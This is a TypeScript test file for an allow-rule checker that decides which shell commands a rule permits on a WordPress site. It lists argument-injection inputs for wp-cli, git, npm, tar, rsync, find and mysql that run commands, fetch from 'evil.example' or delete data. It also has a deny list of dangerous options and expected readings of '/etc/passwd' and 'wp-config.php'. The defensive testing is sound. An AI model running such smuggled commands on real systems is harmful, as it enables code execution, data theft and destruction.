import type { AllowRule } from '@hlidka/protocol';
import { expect, test } from 'vitest';
import { judgeByRule, letsThrough } from './allow-rules.ts';

const words = (line: string) => line.split(' ');
const rule = (line: string): AllowRule => ({ argv: words(line), more: true, where: 'site' });
const verdict = (allowed: string, asked: string) =>
  judgeByRule(rule(allowed), words(asked), '/var/www/web');

test.each([
  ['wp plugin', 'wp plugin list --exec=system("id");', '--exec=system("id");'],
  ['wp plugin', 'wp plugin list --require=/tmp/a.php', '--require=/tmp/a.php'],
  ['wp plugin', 'wp plugin list --path=/var/www/other', '--path=/var/www/other'],
  ['wp plugin', 'wp plugin list --ssh=other.example', '--ssh=other.example'],
  ['wp plugin', 'wp plugin list --http=https://other.example', '--http=https://other.example'],
  ['wp plugin', 'wp plugin install https://evil.example/a.zip', 'https://evil.example/a.zip'],
  ['wp plugin', 'wp plugin install ../a.zip', '../a.zip'],
  ['wp', 'wp @other plugin list', '@other'],
  ['wp', 'wp eval phpinfo();', 'eval'],
  ['/usr/local/bin/wp-cli.phar', '/usr/local/bin/wp-cli.phar shell', 'shell'],
  ['php wp-cli.phar plugin', 'php wp-cli.phar plugin list --exec=a', '--exec=a'],
  ['git', 'git -c core.pager=id log', '-c'],
  ['git', 'git --config-env=a=b log', '--config-env=a=b'],
  ['git fetch', 'git fetch --upload-pa=id', '--upload-pa=id'],
  ['git pull', 'git pull ext::id', 'ext::id'],
  ['git', 'git -C /srv/other pull', '-C'],
  ['composer', 'composer exec id', 'exec'],
  ['composer install', 'composer install -d /srv/other', '-d'],
  ['npm', 'npm exec id', 'exec'],
  ['npm install', 'npm install --script-shell=/tmp/a', '--script-shell=/tmp/a'],
  ['npm install', 'npm install evil/repo', 'evil/repo'],
  ['php', 'php a.php', 'a.php'],
  ['php -v', 'php -v -r phpinfo();', '-r'],
  ['mysql web', 'mysql web -e drop', '-e'],
  ['mariadb-dump web', 'mariadb-dump web --defaults-file=/tmp/a', '--defaults-file=/tmp/a'],
  ['tar -cf a.tar', 'tar -cf a.tar . --checkpoint-action=exec=id', '--checkpoint-action=exec=id'],
  ['tar -cf a.tar', 'tar -cf a.tar . --checkpoint-act=exec=id', '--checkpoint-act=exec=id'],
  ['tar', 'tar -cIid -f a.tar .', '-cIid'],
  ['tar', 'tar cIf id a.tar', 'cIf'],
  ['rsync -a', 'rsync -a -e id a b', '-e'],
  ['rsync -a', 'rsync -a web/ other.example:web/', 'other.example:web/'],
  ['find .', 'find . -exec id {} ;', '-exec'],
  ['find .', 'find . -delete', '-delete'],
  ['ssh other.example', 'ssh other.example id', 'id'],
  ['sudo wp', 'sudo wp plugin list', 'plugin'],
  ['sh', 'sh -c id', '-c'],
  ['env', 'env wp', 'wp'],
])('“%s …” refuses %s', (allowed, asked, argument) => {
  expect(verdict(allowed, asked)).toEqual({ is: 'refused', argument });
});

/** What makes a program run another one, or work elsewhere than it was let to. */
const elsewhere: Record<string, string> = {
  wp: `
    --exec --require --ssh --http --config --prompt eval eval-file shell package
    config cli server scaffold db`,
  git: `
    --exec --exec-path --config --config-env --upload-pack --receive-pack
    --git-dir --work-tree --namespace --template --output --open-files-in-pager
    --ext-diff --textconv --extcmd --editor --super-prefix --no-index
    --separate-git-dir -c -C -u -x -O -o config bisect submodule filter-branch
    difftool mergetool rebase`,
  composer: `
    --working-dir --repository --repository-url --prefer-source -d -c exec run
    run-script config global require create-project init self-update reinstall
    archive`,
  npm: `
    --prefix --script-shell --node-options --userconfig --globalconfig --global
    --shell --registry --call --package --git --editor --viewer --cache --location
    --local-prefix -g -c -C exec x explore run run-script rum urn start stop
    restart test t tst config c get set edit init create innit link ln publish`,
  php: `
    --run --process-begin --process-code --process-file --process-end --php-ini
    --define --zend-extension --file --interactive --server --docroot -r -B -R -F
    -E -d -c -z -f -a -S -t`,
  mysql: `
    --execute --init-command --defaults-file --defaults-extra-file
    --defaults-group-suffix --login-path --pager --tee --plugin-dir --default-auth
    --host --port --socket --protocol --local-infile --load-data-local-dir
    --result-file --tab --user -e -h -S -P -T -r -u`,
  tar: `
    --checkpoint-action --use-compress-program --to-command --info-script
    --new-volume-script --rsh-command --rmt-command --directory --cd
    --absolute-names --files-from --index-file --one-top-level --recursive-unlink
    --listed-incremental --transform --xform -I -F -C -P -T -K -g`,
  rsync: `
    --rsh --rsync-path --remote-option --daemon --config --password-file
    --files-from --early-input --write-batch --read-batch --only-write-batch
    --log-file --temp-dir --backup-dir --partial-dir --source-filter --dest-filter
    -e -M -T`,
  find: `
    -exec -execdir -ok -okdir -delete -fprint -fprint0 -fprintf -fls -files0-from
    --files0-from`,
};

test.each(Object.entries(elsewhere))(
  'nothing that leads “%s …” elsewhere may follow',
  (program, all) => {
    const passed = all
      .trim()
      .split(/\s+/)
      .filter((word) => judgeByRule(rule(program), [program, word], null)?.is !== 'refused');
    expect(passed).toEqual([]);
  },
);

test.each([
  ['wp plugin', 'wp plugin list'],
  ['wp plugin', 'wp plugin list --path=/var/www/web --format=json'],
  ['wp plugin', 'wp plugin update --all'],
  ['wp plugin', 'wp plugin install config'],
  ['git', 'git log --oneline -10'],
  ['npm install', 'npm install @scope/name'],
  ['tar', 'tar -tzf a.tgz'],
  ['tar', 'tar --list --file=a.tgz'],
  ['rsync -a', 'rsync -a --backup a b'],
  ['find .', 'find . -name *.php'],
  ['cat', 'cat a b'],
])('“%s …” lets %s through', (allowed, asked) => {
  expect(verdict(allowed, asked)).toEqual({ is: 'allowed' });
});

test('of a program that we do not know, options are asked for', () => {
  expect(verdict('drush', 'drush status')).toEqual({ is: 'allowed' });
  expect(verdict('drush', 'drush status --include=/tmp')).toEqual({
    is: 'asked',
    argument: '--include=/tmp',
  });
  expect(verdict('drush', 'wp status')).toBeNull();
  const exact = { ...rule('drush status'), more: false };
  expect(judgeByRule(exact, words('drush status'), null)).toEqual({ is: 'allowed' });
  expect(judgeByRule(exact, words('drush status a'), null)).toBeNull();
});

test('what a rule is said to let through it does let through: three commands, or as many as there are', () => {
  const shown = (line: string) => letsThrough(rule(line)).map((argv) => argv.join(' '));
  expect(shown('wp plugin')).toEqual([
    'wp plugin delete --all',
    'wp plugin install woocommerce --activate',
    'wp plugin update --all',
  ]);
  expect(shown('cat')).toEqual(['cat /etc/passwd', 'cat wp-config.php', 'cat .']);
  expect(shown('sudo wp')).toEqual(['sudo wp']);
  for (const line of [
    'wp',
    'git',
    'composer',
    'npm',
    'php',
    'php a.php',
    'mysql',
    'tar',
    'rsync',
    'find',
  ])
    for (const argv of letsThrough(rule(line)))
      expect(judgeByRule(rule(line), argv, null), argv.join(' ')).toEqual({ is: 'allowed' });
});
